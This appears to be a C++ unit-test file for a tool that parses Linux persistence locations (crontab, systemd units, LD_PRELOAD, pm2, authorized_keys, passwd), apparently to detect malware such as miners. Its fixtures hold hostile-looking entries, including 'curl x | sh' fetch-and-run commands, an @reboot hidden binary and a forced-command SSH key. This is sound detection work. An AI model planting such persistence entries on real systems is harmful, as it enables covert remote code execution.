#include "sources/persistence.h"

#include <gtest/gtest.h>

namespace deminer {
namespace {

TEST(PersistenceParseTest, CrontabSkipsEnvironmentAndReadsUserField) {
  const auto cmds = ParseCrontab(R"(SHELL=/bin/sh
MAILTO = ops
# m h dom mon dow user command
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
@reboot www-data /var/tmp/.x/run -q
*/5 * * * * root FOO=1 /usr/bin/true
)",
                                 true);
  ASSERT_EQ(cmds.size(), 3u);
  EXPECT_EQ(cmds[0].line, 4);
  EXPECT_EQ(cmds[0].key, "17 * * * *");
  EXPECT_EQ(cmds[0].user, "root");
  EXPECT_EQ(cmds[0].text, "cd / && run-parts --report /etc/cron.hourly");
  EXPECT_EQ(cmds[1].key, "@reboot");
  EXPECT_EQ(cmds[1].user, "www-data");
  EXPECT_EQ(cmds[2].text, "FOO=1 /usr/bin/true");
  const auto user = ParseCrontab("* * * * * curl x | sh\n", false);
  ASSERT_EQ(user.size(), 1u);
  EXPECT_EQ(user[0].text, "curl x | sh");
  EXPECT_TRUE(user[0].user.empty());
}

TEST(PersistenceParseTest, UnitExecLinesWithPrefixesAndContinuations) {
  const auto cmds = ParseUnitExec(R"([Service]
User=root
ExecStartPre=-/bin/mkdir -p /run/x
ExecStart=/usr/bin/env \
  sh -c 'curl x | sh'
; ExecStop=/bin/false
Environment=A=1
)");
  ASSERT_EQ(cmds.size(), 3u);
  EXPECT_EQ(cmds[0].key, "User");
  EXPECT_EQ(cmds[0].text, "root");
  EXPECT_EQ(cmds[1].text, "/bin/mkdir -p /run/x");
  EXPECT_EQ(cmds[2].key, "ExecStart");
  EXPECT_EQ(cmds[2].line, 4);
  EXPECT_EQ(cmds[2].text, "/usr/bin/env  sh -c 'curl x | sh'");
}

TEST(PersistenceParseTest, LdPreloadAssignments) {
  const auto cmds =
      ParseLdPreloadAssignments("A=1\nexport LD_PRELOAD=\"/tmp/x.so\"\n# LD_PRELOAD=/y\n");
  ASSERT_EQ(cmds.size(), 1u);
  EXPECT_EQ(cmds[0].text, "/tmp/x.so");
  EXPECT_EQ(cmds[0].line, 2);
}

TEST(PersistenceParseTest, Pm2DumpAppsAndBadJson) {
  const auto cmds = ParsePm2Dump(R"([{"name":"web","pm_exec_path":"/srv/app/server.js",
    "exec_interpreter":"node","args":["--port","3000"],"username":"root"},
    {"name":"x","pm_exec_path":"/tmp/dbus_daemon","exec_interpreter":"none"}, 7])");
  ASSERT_EQ(cmds.size(), 2u);
  EXPECT_EQ(cmds[0].text, "node /srv/app/server.js --port 3000");
  EXPECT_EQ(cmds[0].key, "web");
  EXPECT_EQ(cmds[0].user, "root");
  EXPECT_EQ(cmds[1].text, "/tmp/dbus_daemon");
  EXPECT_TRUE(ParsePm2Dump("{not json").empty());
  EXPECT_TRUE(ParsePm2Dump("{}").empty());
}

TEST(PersistenceParseTest, AuthorizedKeyOptionsWithQuotedSpaces) {
  const auto k = ParseAuthorizedKey(
      R"(command="echo hi; curl x | sh",no-pty ssh-ed25519 AAAAC3Nz user@host extra)");
  ASSERT_TRUE(k);
  EXPECT_EQ(k->options, R"(command="echo hi; curl x | sh",no-pty)");
  EXPECT_EQ(k->type, "ssh-ed25519");
  EXPECT_EQ(k->key, "AAAAC3Nz");
  EXPECT_EQ(k->comment, "user@host extra");
  EXPECT_FALSE(ParseAuthorizedKey("# comment"));
  EXPECT_FALSE(ParseAuthorizedKey("ssh-rsa"));
}

TEST(PersistenceParseTest, PasswdSkipsMalformedLines) {
  const auto users = ParsePasswd(
      "root:x:0:0:root:/root:/bin/bash\nbad "
      "line\napp:x:1000:1000::/home/app:/bin/sh\nx:x:notanumber:0::/:/bin/sh\n");
  ASSERT_EQ(users.size(), 2u);
  EXPECT_EQ(users[1].name, "app");
  EXPECT_EQ(users[1].uid, 1000u);
  EXPECT_EQ(users[1].home, "/home/app");
}

}  // namespace
}  // namespace deminer
